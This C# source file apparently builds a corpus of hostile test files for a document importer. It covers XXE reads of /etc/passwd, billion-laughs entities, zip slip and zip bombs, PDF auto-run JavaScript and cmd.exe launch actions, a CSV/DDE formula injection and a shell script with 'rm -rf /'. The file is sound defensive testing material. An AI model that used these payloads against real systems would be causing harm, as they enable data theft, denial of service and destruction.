using System.Text;
using IsoDienTu.Pure.Procedures.Importing;
using IsoDienTu.Pure.Signing;

namespace IsoDienTu.Pure.Hostile;

/// <summary>Every kind of file that is known to harm readers, made here so that nothing harmful lies in the repository. Some good ones stand beside them, which must be taken.</summary>
internal static class Corpus
{
    public static readonly IReadOnlyList<HostileFile> Files =
    [
        .. Good(),
        .. Xml(),
        .. Archives(),
        .. Pdfs(),
        .. Pictures(),
        .. Twofold(),
        .. Plain(),
    ];

    private static IEnumerable<HostileFile> Good() =>
        [
            new("good word", "quy-trinh.docx", () => Packed.Word()),
            new("good table", "danh-sach.xlsx", () => Packed.Book()),
            new(
                "good word with a table inside",
                "quy-trinh.docx",
                () => Packed.Word(part: ("word/embeddings/a.xlsx", Encoding.Latin1.GetString(Packed.Book())))
            ),
            new("good diagram", "so-do.bpmn", () => Bytes(Diagram("<startEvent id=\"s\"/>"))),
            new("good pdf", "so-tay.pdf", () => Papers.Plain(2)),
            new("good picture", "con-dau.png", () => Signing.Pictures.Seal()),
        ];

    private static IEnumerable<HostileFile> Xml()
    {
        foreach (var (id, head, body) in Entities())
        {
            yield return new($"xml {id}", "so-do.bpmn", () => Bytes($"<?xml version=\"1.0\"?>{head}{Diagram(body, declared: false)}"));
            yield return new(
                $"word {id}",
                "quy-trinh.docx",
                () => Packed.Word(part: ("word/settings.xml", $"<?xml version=\"1.0\"?>{head}<a>{body}</a>"))
            );
            yield return new($"table {id}", "bang.xlsx", () => Packed.Book(shared: $"<?xml version=\"1.0\"?>{head}<sst>{body}</sst>"));
        }

        yield return new("xml nested", "so-do.bpmn", () => Bytes(string.Concat(Enumerable.Repeat("<a>", 100_000))));
        yield return new("xml nested and closed", "so-do.bpmn", () => Bytes(Diagram(Many("<a>", 100_000) + Many("</a>", 100_000))));
        yield return new("xml many siblings", "so-do.html", () => Bytes("<html><body>" + Many("<p>x</p>", 180_000)));
        yield return new("xml many elements", "so-do.bpmn", () => Bytes(Diagram(Many("<a/>", 200_000))));
        yield return new(
            "xml one huge value",
            "so-do.bpmn",
            () => Bytes(Diagram($"<task id=\"t\" name=\"{new string('x', 9_000_000)}\"/>"))
        );
        yield return new(
            "xml many attributes",
            "so-do.bpmn",
            () => Bytes($"<a {string.Concat(Enumerable.Range(0, 100_000).Select(i => $"a{i}='' "))}/>")
        );
        yield return new("xml claims UTF-7", "so-do.bpmn", () => Bytes(Diagram("").Replace("UTF-8", "UTF-7", StringComparison.Ordinal)));
        yield return new("xml claims UTF-16", "so-do.bpmn", () => Bytes(Diagram("").Replace("UTF-8", "UTF-16", StringComparison.Ordinal)));
        yield return new(
            "xml in UTF-16 with DTD",
            "so-do.bpmn",
            () =>
                [
                    .. Encoding.Unicode.GetPreamble(),
                    .. Encoding.Unicode.GetBytes("<?xml version=\"1.0\" encoding=\"utf-16\"?><!DOCTYPE a><a/>"),
                ]
        );
        yield return new(
            "xml includes",
            "so-do.bpmn",
            () => Bytes(Diagram("<i:include xmlns:i=\"http://www.w3.org/2001/XInclude\" href=\"file:///etc/passwd\" parse=\"text\"/>"))
        );
        yield return new(
            "xml styled",
            "so-do.bpmn",
            () =>
                Bytes(
                    "<?xml version=\"1.0\"?><?xml-stylesheet href=\"http://x.invalid/a.xsl\" type=\"text/xsl\"?>"
                        + Diagram("", declared: false)
                )
        );
        yield return new(
            "word nested",
            "quy-trinh.docx",
            () => new WordFile().Raw(Many("<w:sdt><w:sdtContent>", 50_000) + Many("</w:sdtContent></w:sdt>", 50_000)).Bytes()
        );
        yield return new("table nested", "bang.xlsx", () => Packed.Book(rows: Many("<row>", 100_000) + Many("</row>", 100_000)));
        yield return new("table far cell", "bang.xlsx", () => Packed.Book(rows: "<row r=\"1\"><c r=\"XFD1048576\"><v>1</v></c></row>"));
        yield return new(
            "table million cells",
            "bang.xlsx",
            () => Packed.Book(rows: string.Concat(Enumerable.Range(1, 60_000).Select(i => $"<row r=\"{i}\"><c><v>1</v></c></row>")))
        );
    }

    private static IEnumerable<(string Id, string Head, string Body)> Entities() =>
        [
            ("outside file", "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>", "&x;"),
            ("outside host", "<!DOCTYPE a SYSTEM \"http://x.invalid/a.dtd\">", ""),
            ("parameter entity", "<!DOCTYPE a [<!ENTITY % x SYSTEM \"http://x.invalid/a\"> %x;]>", ""),
            (
                "billion laughs",
                $"<!DOCTYPE a [<!ENTITY a0 \"ha\">{string.Concat(Enumerable.Range(1, 9).Select(i => $"<!ENTITY a{i} \"{Many($"&a{i - 1};", 10)}\">"))}]>",
                "&a9;"
            ),
            ("quadratic", $"<!DOCTYPE a [<!ENTITY a \"{new string('x', 50_000)}\">]>", Many("&a;", 20_000)),
        ];

    private static IEnumerable<HostileFile> Archives()
    {
        foreach (var name in (string[])["../ngoai.xml", "word/../../ngoai.xml", "/etc/passwd", "C:\\ngoai.xml", "..\\ngoai.xml"])
        {
            yield return new($"archive names {name}", "quy-trinh.docx", () => Packed.Word(part: (name, "<a/>")));
        }

        yield return new("archive bomb", "quy-trinh.docx", () => Packed.Word(part: ("word/media/a.bin", new string('\0', 150 << 20))));
        yield return new("archive bomb of text", "quy-trinh.docx", () => new WordFile().Paragraph(new string('a', 60 << 20)).Bytes());
        yield return new(
            "archive in archive",
            "quy-trinh.docx",
            () => Packed.Word(part: ("word/embeddings/a.zip", Encoding.Latin1.GetString(Packed.Nested(6))))
        );
        yield return new(
            "archive of 65,536",
            "quy-trinh.docx",
            () => Packed.Zip([.. Enumerable.Range(0, 65_536).Select(i => ($"word/{i}.xml", ""))])
        );
        yield return new("archive twice the same name", "quy-trinh.docx", () => Packed.Word(part: ("word/document.xml", "<a/>")));
        yield return new("archive overlapping", "quy-trinh.docx", () => Packed.Spoiled(Packed.Word(), 42, 0));
        yield return new("archive wrong size", "quy-trinh.docx", () => Packed.Spoiled(Packed.Word(), 24, 0x7fff_ffff));
        yield return new("archive encrypted entry", "quy-trinh.docx", () => Packed.Spoiled(Packed.Word(), 8, 1));
        yield return new("archive with a link", "quy-trinh.docx", () => Packed.Linked(Packed.Word()));
        yield return new("archive cut off", "quy-trinh.docx", () => Packed.Word()[..^100]);
        yield return new("word with macros", "quy-trinh.docm", () => Packed.Word(part: ("word/vbaProject.bin", "x")));
        yield return new("word with macros as docx", "quy-trinh.docx", () => Packed.Word(part: ("word/vbaProject.bin", "x")));
        yield return new("table with macros", "bang.xlsx", () => Packed.Book(part: ("xl/vbaProject.bin", "x")));
        yield return new(
            "word from outside",
            "quy-trinh.docx",
            () =>
                new WordFile()
                    .Raw(WordFile.StepsTable)
                    .Relation(
                        "<Relationship Id=\"o\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\" Target=\"http://x.invalid/a.dotm\" TargetMode=\"External\"/>"
                    )
                    .Bytes()
        );
        yield return new(
            "table from outside",
            "bang.xlsx",
            () =>
                Packed.Book(
                    rows: "<row r=\"1\"><c r=\"A1\" t=\"str\"><f>WEBSERVICE(\"http://x.invalid\")</f><v>=cmd|' /C calc'!A0</v></c></row>"
                )
        );
        yield return new("old office", "quy-trinh.doc", () => [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, .. new byte[600]]);
    }

    private static IEnumerable<HostileFile> Pdfs()
    {
        foreach (
            var (id, catalog) in ((string, string)[])
                [
                    ("runs a script", "/OpenAction<</S/JavaScript/JS(app.alert(1))>>"),
                    ("runs a hidden script", "/OpenAction<</S/J#61vaScript/JS(x)>>"),
                    ("starts a program", "/AA<</WC<</S/Launch/F(cmd.exe)>>>>"),
                    ("sends itself", "/OpenAction<</S/SubmitForm/F(http://x.invalid)>>"),
                    ("carries a file", "/Names<</EmbeddedFiles<</Names[(a)<</Type/Filespec>>]>>>>"),
                    ("draws its form", "/AcroForm<</Fields[]/XFA[]>>"),
                ]
        )
        {
            yield return new($"pdf {id}", "so-tay.pdf", () => Papers.Plain(catalog: catalog));
        }

        yield return new(
            "pdf script added later",
            "so-tay.pdf",
            () => Papers.Append(Papers.Plain(), 1, "<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(x)>>>>")
        );
        yield return new("pdf encrypted", "so-tay.pdf", () => Papers.Plain(extra: "/Encrypt 9 0 R"));
        yield return new("pdf cut off", "so-tay.pdf", () => Papers.Plain().AsSpan()[..^60].ToArray());
        yield return new("pdf head only", "so-tay.pdf", () => Bytes("%PDF-1.7"));
        yield return new(
            "pdf deep arrays",
            "so-tay.pdf",
            () => Papers.Table([$"<</Type/Catalog/Pages 2 0 R/X {new string('[', 100_000)}>>", "<</Type/Pages/Kids[]/Count 0>>"])
        );
        yield return new(
            "pdf page of itself",
            "so-tay.pdf",
            () => Papers.Table(["<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Kids[2 0 R]/Count 1>>"])
        );
        yield return new(
            "pdf million pages",
            "so-tay.pdf",
            () =>
                Papers.Table([
                    "<</Type/Catalog/Pages 2 0 R>>",
                    .. Enumerable.Range(2, 38).Select(l => $"<</Type/Pages/Kids[{l + 1} 0 R {l + 1} 0 R]/Count 99>>"),
                    "<</Type/Pages/Kids[]>>",
                ])
        );
        yield return new(
            "pdf table of a billion",
            "so-tay.pdf",
            () => Bytes("%PDF-1.7\nxref\n0 1000000000\n0000000000 65535 f \ntrailer\n<</Root 1 0 R>>\nstartxref\n9\n%%EOF\n")
        );
        yield return new("pdf packed table bomb", "so-tay.pdf", () => Packed.PdfBomb());
        yield return new(
            "pdf picture of 100 megapixels",
            "so-tay.pdf",
            () =>
                Papers.Table([
                    "<</Type/Catalog/Pages 2 0 R>>",
                    "<</Type/Pages/Kids[3 0 R]/Count 1>>",
                    "<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Resources<</XObject<</I 4 0 R>>>>>>",
                    "<</Type/XObject/Subtype/Image/Width 10000/Height 10000/BitsPerComponent 8/ColorSpace/DeviceGray/Length 1>>\nstream\nx\nendstream",
                ])
        );
        yield return new("pdf referring to itself", "so-tay.pdf", () => Papers.Table(["<</Type/Catalog/Pages 2 0 R>>", "2 0 R"]));
    }

    private static IEnumerable<HostileFile> Pictures() =>
        [
            new("picture of 100 megapixels", "dau.png", () => Packed.Png(10_000, 10_000, [])),
            new("picture claims 2 billion points a side", "dau.png", () => Packed.Png(int.MaxValue, int.MaxValue, [])),
            new("picture unpacks to more than it says", "dau.png", () => Packed.Png(10, 10, Packed.Zeros(100 << 20))),
            new("picture cut off", "dau.png", () => Signing.Pictures.Seal()[..40]),
            new(
                "picture of lines with script",
                "dau.svg",
                () => Bytes("<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>")
            ),
        ];

    private static IEnumerable<HostileFile> Twofold() =>
        [
            new("GIF that is a script", "dau.gif", () => Bytes("GIF89a/*aaaa*/=1;alert(1)")),
            new("PDF that is an archive", "so-tay.pdf", () => [.. Papers.Plain(), .. Packed.Word()]),
            new(
                "page that begins as PNG",
                "dau.png",
                () => [0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A, .. Bytes("<html><script>alert(1)</script>")]
            ),
            new("page called PDF", "so-tay.pdf", () => Bytes("<!doctype html><script>alert(1)</script>")),
            new("program called PDF", "so-tay.pdf", () => [0x4D, 0x5A, .. new byte[400]]),
            new("program called Word", "quy-trinh.docx", () => [0x7F, 0x45, 0x4C, 0x46, .. new byte[400]]),
            new("script called Word", "quy-trinh.docx", () => Bytes("#!/bin/sh\nrm -rf /\n")),
        ];

    private static IEnumerable<HostileFile> Plain() =>
        [
            new("nothing", "tep.pdf", () => []),
            new("zeros", "tep.docx", () => new byte[5 << 20]),
            new("formulas", "bang.csv", () => Bytes("=cmd|' /C calc'!A0,+1,-1,@SUM(A1)\n")),
            new("one endless line", "bang.csv", () => Bytes(new string('a', 19 << 20))),
            new("commas without end", "bang.csv", () => Bytes(new string(',', 5 << 20))),
            new("quotes in one endless line", "bang.csv", () => Bytes(Many("a\"", 5 << 20))),
            new("quotes without end", "bang.csv", () => Bytes("\"" + new string('x', 5 << 20))),
        ];

    private static string Diagram(string inside, bool declared = true) =>
        (declared ? "<?xml version=\"1.0\" encoding=\"UTF-8\"?>" : "")
        + $"<definitions xmlns=\"http://www.omg.org/spec/BPMN/20100524/MODEL\" targetNamespace=\"x\"><process id=\"p\">{inside}</process></definitions>";

    private static string Many(string piece, int count) => string.Concat(Enumerable.Repeat(piece, count));

    private static byte[] Bytes(string text) => Encoding.UTF8.GetBytes(text);
}
